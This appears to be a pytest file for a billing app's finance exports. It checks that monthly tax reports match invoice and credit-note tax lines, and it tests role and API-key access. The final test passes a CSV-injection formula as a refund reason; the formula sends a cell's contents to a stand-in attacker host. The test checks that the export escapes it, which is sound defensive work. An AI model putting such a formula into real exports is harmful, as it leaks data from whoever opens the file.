"""Finance exports through the real ASGI app (issue 18, TAX-1, TAX-2, CRN-1, ACC-3): copies of the
demo organizations (Acme as an Italian consumer at 22 %, Globex as a German business with reverse
charge) are walked through April 2026 on their test clocks; the month's tax report equals, to the
cent, the sums of the invoices' tax lines, computed here from the lines themselves, less the tax
lines of the month's credit notes (a partial refund, an annual -> monthly switch's credit)."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest_asyncio

from billing.clock import FixedClock
from billing.periods import BillingInterval
from gateway.catalog_file import load_catalog, load_demo
from gateway.catalog_spec import DemoSpec
from gateway.seed import seed
from gateway.settings import DEFAULT_CATALOG_FILE, DEFAULT_DEMO_FILE
from models import CreditNote, CreditNoteLine, Invoice, InvoiceLine, Organization
from resolvers.api_keys import create_api_key
from resolvers.taxes import customer_rate
from tests.conftest import SEEDED_AT, GraphQLClient, bearer, trusted_request
from tests.factories import organization_with

ACME, GLOBEX = "exp-acme", "exp-globex"
APRIL, APRIL_END = datetime(2026, 4, 1, tzinfo=UTC), datetime(2026, 5, 1, tzinfo=UTC)
MONEY = "{ amount }"
UPDATE = """mutation ($input: BillingInfoInput!) { updateBillingInfo(input: $input) { __typename
  ... on UserError { code message } } }"""
SUBSCRIBE = """mutation ($input: PlanChangeInput!, $confirm: Int!) {
  subscribe(input: $input, confirmAmountDue: $confirm) { __typename
  ... on UserError { code message } } }"""
ADVANCE = "mutation ($days: Int!) { advanceTestClock(days: $days) { events } }"
PREVIEW = f"""query ($input: PlanChangeInput!) {{ previewPlanChange(input: $input) {{
  amountDueNow {MONEY} blockers {{ code }} }} }}"""
CHANGE = """mutation ($input: PlanChangeInput!, $confirm: Int!) {
  changePlan(input: $input, confirmAmountDue: $confirm) { __typename
  ... on UserError { code message } } }"""


def _copies(demo: DemoSpec, prefix: str = "exp") -> DemoSpec:
    """The demo organizations under slugs and e-mails of their own, Globex with a card."""
    organizations = []
    for spec in demo.organizations:
        slug = f"{prefix}-{spec.slug}"
        users = [
            user.model_copy(update={"email": user.email.replace(f"@{spec.slug}.", f"@{slug}.")})
            for user in spec.users
        ]
        organizations.append(
            spec.model_copy(
                update={
                    "slug": slug,
                    "name": f"{spec.name} Exports",
                    "users": users,
                    "payment_methods": spec.payment_methods or ["pm_card_visa"],
                }
            )
        )
    return demo.model_copy(update={"organizations": organizations})


@pytest_asyncio.fixture
async def walked(gql: GraphQLClient, clock: FixedClock) -> AsyncIterator[None]:
    await _walk(gql, clock, ACME, GLOBEX)
    yield


async def _walk(gql: GraphQLClient, clock: FixedClock, acme: str, globex: str) -> None:
    """The copies seeded at the demo's instant, given their billing addresses, and walked on
    their own test clocks: Acme renews on 2 April and upgrades Email on 12 April; Globex's trial
    would end on 26 March: it subscribes on 12 March and renews on 12 April."""
    clock.set(SEEDED_AT)
    catalog = load_catalog(DEFAULT_CATALOG_FILE)
    prefix = acme.removesuffix("-acme")
    await seed(catalog, _copies(load_demo(DEFAULT_DEMO_FILE, catalog), prefix), clock)
    addresses = {
        acme: {"companyName": "Acme Srl", "billingEmail": f"ap@{acme}.test", "country": "IT"},
        globex: {
            "companyName": "Globex GmbH",
            "billingEmail": f"ap@{globex}.test",
            "country": "DE",
            "taxId": "DE136695976",
        },
    }
    for slug, address in addresses.items():
        saved = await gql(UPDATE, {"input": address}, as_user=f"owner@{slug}.test")
        assert "errors" not in saved, saved
    await gql(ADVANCE, {"days": 31}, as_user=f"owner@{acme}.test")  # 12 April
    change = {"product": "email", "plan": "email-1500"}
    preview = (await gql(PREVIEW, {"input": change}, as_user=f"owner@{acme}.test"))["data"]
    due = preview["previewPlanChange"]["amountDueNow"]["amount"]
    changed = await gql(CHANGE, {"input": change, "confirm": due}, as_user=f"owner@{acme}.test")
    assert changed["data"]["changePlan"]["__typename"] == "PlanChangeApplied", changed
    # Globex subscribes during its trial (12 March) and renews on 12 April.
    plus = {"product": "marketing", "plan": "plus", "seats": 2, "contactLimit": 2500}
    owner = f"owner@{globex}.test"
    preview = (await gql(PREVIEW, {"input": plus}, as_user=owner))["data"]
    due = preview["previewPlanChange"]["amountDueNow"]["amount"]
    subscribed = await gql(SUBSCRIBE, {"input": plus, "confirm": due}, as_user=owner)
    assert subscribed["data"]["subscribe"]["__typename"] == "PlanChangeApplied", subscribed
    await gql(ADVANCE, {"days": 35}, as_user=owner)  # 16 April


async def _csv(
    client: httpx.AsyncClient, path: str, headers: dict[str, str]
) -> list[dict[str, str]]:
    response = await client.get(path, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def _from_lines(slugs: list[str]) -> dict[tuple[str, str, bool], tuple[int, int]]:
    """Independently of the exports: (country, percent, reverse charge) -> (taxable, tax), summed
    from the tax lines of the invoices issued in April (void ones charge nothing)."""
    sums: dict[tuple[str, str, bool], list[int]] = defaultdict(lambda: [0, 0])
    lines = await InvoiceLine.filter(
        invoice__organization__slug__in=slugs,
        invoice__issued_at__gte=APRIL,
        invoice__issued_at__lt=APRIL_END,
    ).exclude(invoice__status="VOID")
    for line in lines:
        rate = line.tax_rate
        if rate is None or (rate["percent"] == "0" and not rate["reverse_charge"]):
            continue  # no tax where the customer is: not on the report
        key = (rate["country"], rate["percent"], rate["reverse_charge"])
        taxable = line.amount - line.discount - (line.tax if rate["inclusive"] else 0)
        sums[key][0] += taxable
        sums[key][1] += line.tax
    return {key: (taxable, tax) for key, (taxable, tax) in sums.items()}


def _report(rows: list[dict[str, str]]) -> dict[tuple[str, str, bool], tuple[int, int]]:
    return {
        (row["country"], row["rate_percent"], row["reverse_charge"] == "True"): (
            int(row["taxable_amount"]),
            int(row["tax_amount"]),
        )
        for row in rows
    }


async def test_the_months_tax_report_equals_the_invoices_tax_lines_rule_tax_1_tax_2(
    client: httpx.AsyncClient, walked: None
) -> None:
    acme_rows = await _csv(
        client, "/exports/tax-report.csv?month=2026-04", await bearer(f"owner@{ACME}.test")
    )
    globex_rows = await _csv(
        client, "/exports/tax-report.csv?month=2026-04", await bearer(f"billing@{GLOBEX}.test")
    )
    assert _report(acme_rows) == await _from_lines([ACME])
    assert _report(globex_rows) == await _from_lines([GLOBEX])
    assert [(r["country"], r["rate_percent"], r["reverse_charge"]) for r in acme_rows] == [
        ("IT", "22", "False")
    ]
    assert [(r["country"], r["rate_percent"], r["reverse_charge"]) for r in globex_rows] == [
        ("DE", "0", "True")
    ]
    # The figures: Acme's renewal (23,400 taxable, 5,148 tax) and its upgrade (net 1,000, 220);
    # Globex's renewal, reverse-charged (TAX-2).
    figures = ("taxable_amount", "tax_amount", "invoices", "currency")
    assert [tuple(row[f] for f in figures) for row in acme_rows] == [("24400", "5368", "2", "USD")]
    assert [tuple(row[f] for f in figures) for row in globex_rows] == [("9800", "0", "1", "USD")]

    # The invoices' export says the same: its tax column adds up to the report's tax.
    invoices = await _csv(
        client, "/exports/invoices.csv?month=2026-04", await bearer(f"owner@{ACME}.test")
    )
    stored = await Invoice.filter(
        organization__slug=ACME, issued_at__gte=APRIL, issued_at__lt=APRIL_END
    ).order_by("issued_at")
    assert [row["number"] for row in invoices] == [invoice.number for invoice in stored]
    assert [(row["subtotal"], row["tax"], row["total"]) for row in invoices] == [
        ("23400", "5148", "28548"),  # the renewal on 2 April
        ("1000", "220", "1220"),  # the upgrade on 12 April: 3,000 for the rest, 2,000 back
    ]
    assert sum(int(row["tax"]) for row in invoices) == int(acme_rows[0]["tax_amount"])
    assert int(acme_rows[0]["invoices"]) == len(invoices)
    assert {row["country"] for row in invoices} == {"IT"}
    assert {row["reverse_charge"] for row in invoices} == {"False"}
    for row in invoices:
        assert int(row["total"]) == int(row["subtotal"]) - int(row["discount"]) + int(row["tax"])
    payments = await _csv(
        client, "/exports/payments.csv?month=2026-04", await bearer(f"owner@{ACME}.test")
    )
    paid = [row for row in payments if row["status"] == "SUCCEEDED"]
    assert {row["invoice_number"] for row in paid} == {row["number"] for row in invoices}
    # Dated by the billing clock (the test clock), as the invoices' paid_at.
    assert [row["charged_at"] for row in paid] == [row["paid_at"] for row in invoices]
    assert sum(int(row["amount"]) for row in paid) == sum(
        int(row["amount_due"]) for row in invoices
    )

    # A platform key of scope exports:read: every organization, or the one named.
    key = await create_api_key(None, "finance", ["exports:read"], SEEDED_AT)
    platform = {"Authorization": f"Bearer {key}"}
    one = await _csv(
        client, f"/exports/tax-report.csv?month=2026-04&organization={GLOBEX}", platform
    )
    assert one == globex_rows
    every = await _csv(client, "/exports/tax-report.csv?month=2026-04", platform)
    everyone = {
        str(slug)
        for slug in await Invoice.filter(issued_at__gte=APRIL, issued_at__lt=APRIL_END).values_list(
            "organization__slug", flat=True
        )
    }
    assert _report(every) == await _from_lines(sorted(everyone))


async def _error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    (error,) = response.json()["errors"]
    assert error["extensions"]["code"] == code
    message: dict[str, Any] = error
    return message


async def test_a_bad_or_missing_month_is_refused_naming_the_parameter(
    client: httpx.AsyncClient, database: str
) -> None:
    owner = await bearer("owner@acme.test")
    for query in ("", "?month=", "?month=2026-13", "?month=March", "?month=2026-4"):
        response = await client.get(f"/exports/invoices.csv{query}", headers=owner)
        error = await _error(response, 400, "BAD_USER_INPUT")
        assert "month" in error["message"] and "YYYY-MM" in error["message"]
    unknown = await client.get("/exports/receipts.csv?month=2026-04", headers=owner)
    assert "/exports/tax-report.csv" in (await _error(unknown, 404, "NOT_FOUND"))["message"]


async def test_only_billing_roles_and_the_exports_scope_may_export_rule_acc_3(
    client: httpx.AsyncClient, database: str
) -> None:
    path = "/exports/tax-report.csv?month=2026-03"
    for email in ("member@acme.test", "admin@acme.test"):
        response = await client.get(path, headers=await bearer(email))
        assert "billing admin" in (await _error(response, 403, "FORBIDDEN"))["message"]
    for email in ("owner@acme.test", "billing@acme.test"):
        assert (await client.get(path, headers=await bearer(email))).status_code == 200
    # Another tenant's organization looks like none (ACC-5).
    other = await client.get(f"{path}&organization=globex", headers=await bearer("owner@acme.test"))
    await _error(other, 404, "NOT_FOUND")
    await _error(await client.get(path), 401, "UNAUTHENTICATED")
    key = await create_api_key(None, "provisioning", ["organizations:read"], SEEDED_AT)
    refused = await client.get(path, headers={"Authorization": f"Bearer {key}"})
    assert "exports:read" in (await _error(refused, 403, "FORBIDDEN"))["message"]
    bound = await create_api_key("acme", "finance", ["exports:read"], SEEDED_AT)
    own = await client.get(path, headers={"Authorization": f"Bearer {bound}"})
    assert own.status_code == 200
    elsewhere = await client.get(
        f"{path}&organization=globex", headers={"Authorization": f"Bearer {bound}"}
    )
    await _error(elsewhere, 404, "NOT_FOUND")


# The year an Italian customer bought Store Business for (paid in December, 22 % VAT): it switches
# to monthly billing on 12 April, and the unused time beyond the new month's charge goes to a
# credit note added to its credit balance (CRN-1).
YEAR = (datetime(2025, 12, 2, 9, 30, tzinfo=UTC), datetime(2026, 12, 2, 9, 30, tzinfo=UTC))
EXPORTS = ("invoices", "credit-notes", "payments", "tax-report")


async def _annual_italian(gql: GraphQLClient) -> Organization:
    organization, owner = await organization_with(
        [{"product": "store", "plan": "business"}], period=YEAR, interval=BillingInterval.ANNUAL
    )
    address = {"companyName": "Rossi Srl", "billingEmail": "ap@rossi.test", "country": "IT"}
    saved = await gql(UPDATE, {"input": address}, as_user=owner)
    assert saved["data"]["updateBillingInfo"]["__typename"] != "UserError", saved
    rate = await customer_rate(organization.id)
    assert (rate.country, rate.percent) == ("IT", "22")
    annual = await Invoice.create(
        organization=organization,
        number=f"{organization.slug.upper()}-00001",
        sequence=1,
        kind="SUBSCRIPTION",
        status="PAID",
        currency="USD",
        total=54900,
        tax_total=9900,
        amount_due=54900,
        tax_summary=[{"rate": rate.to_json(), "taxable": 45000, "tax": 9900}],
        billing_details={"customer": {"company_name": "Rossi Srl", "country": "IT"}},
        issued_at=YEAR[0],
        due_at=YEAR[0],
        paid_at=YEAR[0],
        period_start=YEAR[0],
        period_end=YEAR[1],
    )
    await InvoiceLine.create(
        invoice=annual,
        position=0,
        description="Store Business, 2 Dec 2025 to 2 Dec 2026",
        amount=45000,
        tax=9900,
        tax_rate=rate.to_json(),
        period_start=YEAR[0],
        period_end=YEAR[1],
    )
    organization.invoice_sequence = 1
    await organization.save(update_fields=["invoice_sequence"])
    await gql(ADVANCE, {"days": 31}, as_user=owner)  # 12 April: no renewal, the year runs on
    change = {"product": "store", "billingInterval": "MONTHLY"}
    preview = (await gql(PREVIEW, {"input": change}, as_user=owner))["data"]
    due = preview["previewPlanChange"]["amountDueNow"]["amount"]
    switched = await gql(CHANGE, {"input": change, "confirm": due}, as_user=owner)
    assert switched["data"]["changePlan"]["__typename"] == "PlanChangeApplied", switched
    return organization


async def _refund(client: httpx.AsyncClient, slug: str, number: str, amount: int) -> None:
    invoice = await Invoice.get(number=number)
    key = await create_api_key(slug, "support", ["billing:refund"], SEEDED_AT)
    variables = {"invoiceId": str(invoice.id), "amount": amount, "reason": "Goodwill"}
    response = await client.post(
        "/graphql",
        json=trusted_request("RefundInvoice", variables),
        headers={"Authorization": f"Bearer {key}"},
    )
    refunded = response.json()["data"]["refundInvoice"]
    assert refunded["__typename"] == "InvoiceRefunded", refunded


async def _net_from_lines(slug: str) -> dict[tuple[str, str, bool], tuple[int, int]]:
    """Independently of the exports: the April invoices' tax lines less the April credit notes'
    (a credit note's amount is without tax, its tax the tax it takes back)."""
    sums = {key: list(value) for key, value in (await _from_lines([slug])).items()}
    lines = await CreditNoteLine.filter(
        credit_note__organization__slug=slug,
        credit_note__issued_at__gte=APRIL,
        credit_note__issued_at__lt=APRIL_END,
    )
    for line in lines:
        rate = line.tax_rate
        if rate is None or (rate["percent"] == "0" and not rate["reverse_charge"]):
            continue
        figures = sums.setdefault(
            (rate["country"], rate["percent"], rate["reverse_charge"]), [0, 0]
        )
        figures[0] -= line.amount
        figures[1] -= line.tax
    return {key: (taxable, tax) for key, (taxable, tax) in sums.items()}


NET_ACME, NET_GLOBEX = "net-acme", "net-globex"


async def test_a_months_exports_net_its_credit_notes_rule_crn_1_tax_1(
    client: httpx.AsyncClient, gql: GraphQLClient, clock: FixedClock, database: str
) -> None:
    """Copies of their own (the walk above is another test's): Acme and Globex walked through
    April, then Acme's partial refund and an Italian customer's annual -> monthly switch."""
    await _walk(gql, clock, NET_ACME, NET_GLOBEX)
    # Acme refunds part of its 2 April renewal ($285.48 with 22 % VAT): $100.00 to the card.
    renewal = await Invoice.filter(organization__slug=NET_ACME, issued_at__gte=APRIL).order_by(
        "issued_at"
    )
    await _refund(client, NET_ACME, renewal[0].number, 10000)
    annual = await _annual_italian(gql)
    key = await create_api_key(None, "finance", ["exports:read"], SEEDED_AT)
    platform = {"Authorization": f"Bearer {key}"}
    seen: dict[str, dict[str, str]] = {}
    for slug in (NET_ACME, NET_GLOBEX, annual.slug):
        for kind in EXPORTS:
            path = f"/exports/{kind}.csv?month=2026-04&organization={slug}"
            response = await client.get(path, headers=platform)
            assert response.status_code == 200, response.text
            seen.setdefault(slug, {})[kind] = response.text
            print(f"--- {kind}.csv for {slug}\n{response.text}")

        # The tax report nets the credit notes: the invoices' tax lines less the notes', exactly.
        report = list(csv.DictReader(io.StringIO(seen[slug]["tax-report"])))
        assert _report(report) == await _net_from_lines(slug)
        invoices = list(csv.DictReader(io.StringIO(seen[slug]["invoices"])))
        notes = list(csv.DictReader(io.StringIO(seen[slug]["credit-notes"])))
        assert sum(int(r["tax_amount"]) for r in report) == sum(
            int(r["tax"]) for r in invoices
        ) - sum(int(r["tax"]) for r in notes)
        assert sum(int(r["credit_notes"]) for r in report) == len(
            [n for n in notes if int(n["tax"]) or n["reverse_charge"] == "True"]
        )

        # The credit notes' export is the credit notes in the database, row for row.
        stored = (
            await CreditNote.filter(
                organization__slug=slug, issued_at__gte=APRIL, issued_at__lt=APRIL_END
            )
            .order_by("issued_at", "number")
            .select_related("invoice")
        )
        assert [
            (
                r["number"],
                r["organization"],
                r["invoice_number"],
                r["destination"],
                r["reason"],
                int(r["subtotal"]),
                int(r["tax"]),
                int(r["total"]),
                r["currency"],
                r["issued_at"],
            )
            for r in notes
        ] == [
            (
                note.number,
                slug,
                note.invoice.number,
                note.destination.value,
                note.reason,
                note.subtotal,
                note.tax_total,
                note.total,
                note.currency,
                note.issued_at.isoformat(),
            )
            for note in stored
        ]
        for r in notes:
            assert int(r["total"]) == int(r["subtotal"]) + int(r["tax"])

    # What each organization's month holds.
    acme_notes = list(csv.DictReader(io.StringIO(seen[NET_ACME]["credit-notes"])))
    assert [(n["invoice_number"], n["destination"], n["total"]) for n in acme_notes] == [
        (renewal[0].number, "REFUNDED_TO_CARD", "10000")
    ]
    assert (acme_notes[0]["country"], acme_notes[0]["reverse_charge"]) == ("IT", "False")
    assert list(csv.DictReader(io.StringIO(seen[NET_GLOBEX]["credit-notes"]))) == []
    (switch,) = list(csv.DictReader(io.StringIO(seen[annual.slug]["credit-notes"])))
    assert (switch["destination"], switch["invoice_number"]) == (
        "CREDIT_BALANCE",
        f"{annual.slug.upper()}-00001",
    )
    await annual.refresh_from_db()
    assert annual.credit_balance == int(switch["total"])
    # The figures: Acme's $100.00 refund takes back 8,197 taxable and 1,803 VAT (22 % of the
    # gross, rounded once) from its 24,400 and 5,368; the switch credits 234 of 365 days of
    # $450.00 (28,849) less the new month's $45.00: 24,349 and its 22 % VAT, 5,357.
    assert (switch["subtotal"], switch["tax"], switch["total"], switch["country"]) == (
        "24349",
        "5357",
        "29706",
        "IT",
    )
    figures = ("country", "taxable_amount", "tax_amount", "invoices", "credit_notes")
    expected = {
        NET_ACME: [("IT", "16203", "3565", "2", "1")],
        NET_GLOBEX: [("DE", "9800", "0", "1", "0")],
        annual.slug: [("IT", "-24349", "-5357", "1", "1")],
    }
    for slug, rows in expected.items():
        report = list(csv.DictReader(io.StringIO(seen[slug]["tax-report"])))
        assert [tuple(r[f] for f in figures) for r in report] == rows


async def test_a_text_cell_a_spreadsheet_would_run_is_escaped_rule_crn_1(
    client: httpx.AsyncClient, gql: GraphQLClient, database: str
) -> None:
    """A refund's reason is a caller's text: one a spreadsheet would run as a formula is written
    with a leading apostrophe; the amounts stay numbers (CSV injection)."""
    organization, owner = await organization_with(
        [{"product": "email", "plan": "email-1000"}],
        period=(SEEDED_AT - timedelta(days=10), SEEDED_AT + timedelta(days=21)),
    )
    preview = await gql(
        PREVIEW, {"input": {"product": "email", "plan": "email-1500"}}, as_user=owner
    )
    due = preview["data"]["previewPlanChange"]["amountDueNow"]["amount"]
    changed = await gql(
        CHANGE, {"input": {"product": "email", "plan": "email-1500"}, "confirm": due}, as_user=owner
    )
    assert changed["data"]["changePlan"]["__typename"] == "PlanChangeApplied", changed
    invoice = await Invoice.get(organization_id=organization.id)
    key = await create_api_key(organization.slug, "support", ["billing:refund"], SEEDED_AT)
    reason = '=HYPERLINK("http://attacker.test/?"&A1,"Open")'
    refunded = await client.post(
        "/graphql",
        json=trusted_request(
            "RefundInvoice", {"invoiceId": str(invoice.id), "amount": 100, "reason": reason}
        ),
        headers={"Authorization": f"Bearer {key}"},
    )
    assert refunded.json()["data"]["refundInvoice"]["__typename"] == "InvoiceRefunded"
    month = invoice.issued_at.strftime("%Y-%m")
    owner_headers = await bearer(owner)
    notes = await _csv(
        client,
        f"/exports/credit-notes.csv?month={month}&organization={organization.slug}",
        owner_headers,
    )
    assert [(row["reason"], row["total"]) for row in notes] == [("'" + reason, "100")]
